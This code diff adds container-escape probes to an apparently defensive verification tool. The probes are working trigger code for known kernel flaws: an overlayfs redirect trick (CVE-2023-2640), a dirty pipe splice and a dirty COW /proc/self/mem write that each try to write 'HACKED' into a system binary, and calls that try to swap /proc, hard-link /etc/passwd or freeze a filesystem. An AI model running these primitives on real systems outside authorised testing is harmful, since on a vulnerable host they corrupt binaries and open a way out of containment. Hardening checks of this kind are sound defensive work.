@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import mmap
 import os
 import stat
 from errno import EACCES, EBUSY, EINVAL, ENOENT, ENOSYS, ENOTDIR, EPERM, EROFS, ETXTBSY, EXDEV
 from typing import TYPE_CHECKING
 
-from ssh2container.admin.verify.calls import call
+from ssh2container.admin.verify.calls import AT_FDCWD, call
 from ssh2container.admin.verify.probe import Escaped, Group, Skipped, Weak, refusal, require
 from ssh2container.admin.verify.probes.mounts import mountinfo
 from ssh2container.admin.verify.probes.privileges import ranges
@@ -277,3 +278,85 @@ def _map_files() -> int:
         if os.readlink(path).startswith(("/usr/", "/lib", "/bin")):
             return os.open(path, os.O_RDWR)
     raise OSError(ENOENT, "no file of the image is mapped")
+
+
+@GROUP.check("an overlay redirect leads nowhere", "overlayfs.rst, redirect_dir and userxattr; CVE-2023-2640")
+def _redirect(_: Surroundings) -> str:
+    path = "/run/verify-redirect"
+    try:
+        os.mkdir(path)
+    except OSError as error:
+        raise Skipped(f"{path}: {error.strerror}") from None
+    try:
+        for name in ("user.overlay.redirect", "user.overlay.opaque", "user.overlay.metacopy"):
+            try:
+                os.setxattr(path, name, b"/etc")
+            except OSError:
+                continue
+        os.rename(path, path + "-moved")
+        path += "-moved"
+        require(not os.listdir(path), f"it shows {os.listdir(path)[:3]}")
+    finally:
+        os.rmdir(path)
+    return "an empty directory"
+
+
+@GROUP.check("spliced pages of the image are not written", "CVE-2022-0847 (dirty pipe)")
+def _dirty_pipe(_: Surroundings) -> str:
+    path = next((p for p in ("/usr/bin/env", "/bin/sh", "/bin/busybox") if os.access(p, os.R_OK)), "")
+    if not path:
+        raise Skipped("the image has no file to try it on")
+    victim = os.open(path, os.O_RDONLY)
+    before = os.pread(victim, 16, 0)
+    reader, writer = os.pipe()
+    os.write(writer, bytes(16 * 4096))
+    os.read(reader, 16 * 4096)
+    os.splice(victim, writer, 1, offset_src=0)
+    os.write(writer, b"HACKED")
+    require(os.pread(victim, 16, 0) == before, f"{path} was changed through a pipe")
+    return path
+
+
+@GROUP.check("a private mapping of the image is written for oneself only", "CVE-2016-5195 (dirty COW)")
+def _dirty_cow(_: Surroundings) -> str:
+    path = next((p for p in ("/usr/bin/env", "/bin/sh", "/bin/busybox") if os.access(p, os.R_OK)), "")
+    if not path:
+        raise Skipped("the image has no file to try it on")
+    victim = os.open(path, os.O_RDONLY)
+    before = os.pread(victim, 16, 0)
+    with mmap.mmap(victim, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ):
+        with open("/proc/self/maps", encoding="utf-8", errors="replace") as file:
+            lines = [line for line in file if line.rstrip().endswith(os.path.realpath(path))]
+        memory = os.open("/proc/self/mem", os.O_RDWR)
+        for line in lines:
+            os.pwrite(memory, b"HACKED", int(line.split("-")[0], 16))
+        require(os.pread(victim, 16, 0) == before, f"{path} was changed through its mapping")
+    return f"{len(lines)} mappings of {path}"
+
+
+GROUP.refused(
+    "exchange /proc for /tmp",
+    "renameat2(2)",
+    lambda _: call("renameat2", AT_FDCWD, b"/proc", AT_FDCWD, b"/tmp", 2),
+    *_WALL,
+    EBUSY,
+    EXDEV,
+)
+GROUP.refused(
+    "link a file by a path descriptor",
+    "linkat(2), AT_EMPTY_PATH",
+    lambda _: call("linkat", os.open("/etc/passwd", os.O_PATH), b"", AT_FDCWD, b"/tmp/verify-link", 0x1000),
+    EPERM,
+    EXDEV,
+    ENOENT,
+    EACCES,
+)
+for _name in (0x40086602, 0xC0045877):
+    GROUP.refused(
+        {0x40086602: "set inode flags in the image", 0xC0045877: "freeze a host file system"}[_name],
+        "ioctl_iflags(2), ioctl_fsfreeze(2)",
+        lambda _, request=_name: call("ioctl", os.open("/usr", os.O_RDONLY), request, bytearray(8)),  # type: ignore[misc]
+        *_WALL,
+        25,  # ENOTTY
+        weak=(ENOENT, 95),
+    )
